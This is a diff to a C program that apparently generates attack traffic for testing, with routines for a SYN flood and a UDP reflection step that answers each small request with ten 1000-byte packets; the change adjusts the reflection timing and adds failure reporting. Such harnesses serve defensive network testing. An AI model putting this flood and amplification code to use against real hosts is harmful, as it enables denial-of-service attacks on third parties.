@@ -29,7 +29,7 @@
 
 #define nitems(a) (sizeof(a) / sizeof((a)[0]))
 
-enum { POTS = 64, FLOOD_MS = 1000, ANSWER_MS = 500, REFLECT_MS = 2000, PAYLOAD = 64 };
+enum { POTS = 64, FLOOD_MS = 1000, ANSWER_MS = 500, REFLECT_MS = 2000, NOBODY_MS = 10000, PAYLOAD = 64 };
 
 struct attack {
 	int packet, raw;		/* frames; packets for whose hardware address the kernel asks */
@@ -39,6 +39,7 @@ struct attack {
 	struct ends ends;		/* to the gateway, as it should be */
 	enum attempt_id now;
 	uint64_t sent;
+	bool failed;
 };
 
 static struct sockaddr_in at(uint32_t address, uint16_t port)
@@ -734,17 +735,17 @@ static void try_syn_flood(struct attack *a)
 	flood(a, one_syn);
 }
 
-/* Ten of each thousand bytes for one of few. */
+/* Ten of a thousand bytes each for one of few: for a while from the first that asks on, if anybody gets in to ask. */
 static void reflect(struct attack *a, uint16_t port)
 {
 	const struct sockaddr_in own = at(0, port);
 	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
-	uint64_t end = now_ms() + REFLECT_MS;
+	uint64_t end = now_ms() + NOBODY_MS;
 	uint8_t said[1000] = { 0 };
+	bool asked = false;
 
-	if (fd < 0 || bind(fd, (const struct sockaddr *)&own, sizeof(own)) < 0)
-		end = 0;
-	while (now_ms() < end) {
+	a->failed = fd < 0 || bind(fd, (const struct sockaddr *)&own, sizeof(own)) < 0;
+	while (!a->failed && now_ms() < end) {
 		struct sockaddr_in from;
 		socklen_t len = sizeof(from);
 		uint8_t got[256];
@@ -752,6 +753,8 @@ static void reflect(struct attack *a, uint16_t port)
 		if (poll(&(struct pollfd){ .fd = fd, .events = POLLIN }, 1, 100) != 1 ||
 		    recvfrom(fd, got, sizeof(got), 0, (struct sockaddr *)&from, &len) < 0)
 			continue;
+		end = asked ? end : now_ms() + REFLECT_MS;
+		asked = true;
 		mark(a, said);
 		for (int i = 0; i < 10; i++)
 			a->sent += sendto(fd, said, sizeof(said), 0, (struct sockaddr *)&from, len) > 0;
@@ -873,10 +876,12 @@ int main(int argc, char **argv)
 	while (!told_to_go());
 	for (a.now = 0; a.now < N_ATTEMPTS; a.now++) {
 		a.sent = 0;
+		a.failed = false;
 		printf(ATTEMPT_SAYS "begin %d\n", (int)a.now);
 		tries[a.now](&a);
 		wait_ms(100);
-		printf(ATTEMPT_SAYS "end %d %lu\n", (int)a.now, a.sent);
+		if (!a.failed)
+			printf(ATTEMPT_SAYS "end %d %lu\n", (int)a.now, a.sent);
 	}
 	for (;;) {		/* whoever starts us again would begin anew */
 		printf(ATTEMPT_SAYS "done\n");
